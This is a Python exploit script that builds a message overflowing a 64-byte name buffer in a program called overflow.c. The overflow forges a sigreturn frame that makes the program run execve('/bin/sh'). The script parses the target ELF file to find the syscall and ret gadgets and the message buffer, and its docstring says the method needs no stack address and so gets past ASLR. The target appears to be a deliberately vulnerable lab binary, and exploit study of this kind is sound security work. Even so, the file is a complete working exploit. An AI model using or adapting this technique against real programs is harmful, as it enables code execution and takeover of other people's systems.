#!/usr/bin/env python3
"""Writes a message that makes overflow execute /bin/sh.

Usage: attack.py BINARY > MESSAGE

BINARY is a static build of overflow.c at fixed addresses, from which this takes
the address of the message buffer and of three instruction bytes. The method is
sigreturn-oriented programming: Greet() returns the kind of the record, so the
attacker owns rax; with 15 in it (rt_sigreturn, which every program may call) any
`syscall` instruction loads all registers from the overwritten stack, and the
next one is execve. No address of the stack is needed, so address space layout
randomisation is no help to the victim.
"""

import struct
import sys

RT_SIGRETURN = 15
EXECVE = 59
NAME_SIZE = 64
# The return address of Greet lies somewhere in here: a `ret` runs into the next.
SLED = 16
# Offsets into the message.
STRINGS = 4096
STACK = 12288


class Elf:
    """The few parts of a 64-bit ELF file that an attacker looks at."""

    def __init__(self, path):
        with open(path, "rb") as file:
            self.bytes = file.read()
        if self.bytes[:5] != b"\x7fELF\x02":
            sys.exit(f"attack.py: {path} is no 64-bit ELF file")

    def find_code(self, code):
        """Returns the address of the first such bytes in executable memory."""
        offset, = struct.unpack_from("<Q", self.bytes, 32)
        size, count = struct.unpack_from("<HH", self.bytes, 54)
        for i in range(count):
            kind, flags, start, address, _, length = struct.unpack_from(
                "<IIQQQQ", self.bytes, offset + i * size)
            if kind == 1 and flags & 1:
                found = self.bytes.find(code, start, start + length)
                if found >= 0:
                    return address + found - start
        sys.exit(f"attack.py: no {code.hex()} in the program")

    def find_symbol(self, wanted):
        """Returns the address of a symbol."""
        for kind, start, length, link in self._sections():
            if kind != 2:
                continue
            strings = self._sections()[link][1]
            for entry in range(start, start + length, 24):
                name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", self.bytes, entry)
                end = self.bytes.index(b"\0", strings + name)
                if self.bytes[strings + name:end] == wanted:
                    return value
        sys.exit(f"attack.py: the program has no symbol {wanted.decode()}")

    def _sections(self):
        offset, = struct.unpack_from("<Q", self.bytes, 40)
        size, count = struct.unpack_from("<HH", self.bytes, 58)
        result = []
        for i in range(count):
            _, kind, _, _, start, length, link = struct.unpack_from(
                "<IIQQQQI", self.bytes, offset + i * size)
            result.append((kind, start, length, link))
        return result


def signal_frame(rip, rsp, rax, rdi, rsi):
    """The part of struct ucontext that rt_sigreturn reads."""
    registers = [0] * 8 + [rdi, rsi, 0, 0, 0, rax, 0, rsp, rip, 0x202]
    segments = 0x33 | 0x2B << 48
    return struct.pack("<5Q", *[0] * 5) + struct.pack(
        "<18QQ13Q", *registers, segments, *[0] * 13) + struct.pack("<Q", 0)


def attack(elf):
    """Returns the message."""
    message = elf.find_symbol(b"message")
    syscall = elf.find_code(b"\x0f\x05")
    ret = elf.find_code(b"\xc3")
    shell = message + STRINGS
    arguments = shell + 8
    chain = struct.pack("<Q", ret) * SLED + struct.pack("<Q", syscall)
    chain += signal_frame(syscall, message + STACK, EXECVE, shell, arguments)
    text = b"A" * NAME_SIZE + chain
    record = struct.pack("<BH", RT_SIGRETURN, len(text)) + text
    return record.ljust(STRINGS, b"\0") + b"/bin/sh\0" + struct.pack("<QQ", shell, 0)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: attack.py BINARY > MESSAGE")
    sys.stdout.buffer.write(attack(Elf(sys.argv[1])))
